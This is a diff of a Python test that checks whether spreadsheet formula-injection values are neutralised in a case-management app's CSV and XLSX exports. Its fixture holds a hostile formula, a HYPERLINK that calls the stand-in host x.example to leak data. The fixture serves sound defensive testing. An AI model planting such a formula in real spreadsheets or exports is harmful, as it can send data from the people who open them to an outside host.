@@ -6,12 +6,14 @@ from __future__ import annotations
 import csv
 import io
 
-from django.test import Client
+import pytest
 
 from yiri.cases.export import DELIMITER
+from yiri.jobs.exports import read_archive
 from yiri.lib.spreadsheet import safe_cell
 
-from ..conftest import PASSWORD, make_case
+from ..conftest import make_case
+from ..jobs.helpers import export_through_the_pages
 
 HOSTILE = {
     "name_last": '=HYPERLINK("http://x.example/?leak","y")',
@@ -21,18 +23,24 @@ HOSTILE = {
 }
 
 
-def exported_rows(username):
-    client = Client()
-    assert client.login(username=username, password=PASSWORD)
-    response = client.get("/cases/export.csv")
-    assert response.status_code == 200
-    text = b"".join(response.streaming_content).decode("utf-8-sig")
+def exported_rows(user, fmt="csv"):
+    _client, _job, password, archive = export_through_the_pages(user, fmt=fmt)
+    (content,) = read_archive(archive, password).values()
+    if fmt == "xlsx":
+        from openpyxl import load_workbook
+
+        sheet = load_workbook(io.BytesIO(content)).active
+        return [[c.value for c in r] for r in sheet.iter_rows()]
+    text = content.decode("utf-8-sig")
     return list(csv.reader(io.StringIO(text), delimiter=DELIMITER))
 
 
-def test_the_four_values_of_the_attack_come_out_quoted_in_the_case_export(cast):
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_four_values_of_the_attack_come_out_quoted_in_the_case_export(cast, settings, tmp_path, fmt):
+    settings.YIRI_JOBS_DIR = tmp_path / "jobs"
     make_case(cast.worker, **HOSTILE)
-    header, row = exported_rows("manager")
+    header, row = exported_rows(cast.manager, fmt)
+    row = ["" if c is None else str(c) for c in row]
     cells = dict(zip(header, row, strict=True))
     values = set(cells.values())
     for hostile in HOSTILE.values():
